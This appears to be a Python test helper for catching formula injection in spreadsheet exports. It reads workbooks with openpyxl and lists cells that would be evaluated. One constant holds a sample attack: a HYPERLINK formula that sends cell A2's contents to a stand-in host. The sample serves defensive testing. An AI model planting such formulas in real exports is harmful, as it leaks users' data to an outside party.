"""Reading produced spreadsheets back in tests (formula injection, issue 10 item 5)."""

from __future__ import annotations

import io

#: What an attacker typed into a name in the reported national export.
ATTACK = '=HYPERLINK("https://contoh.invalid/?"&A2,"klik")'


def formula_cells(data: bytes) -> list[str]:
    """Every cell that a spreadsheet program would evaluate, in every sheet."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def all_values(data: bytes) -> list[object]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [value for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for value in row]
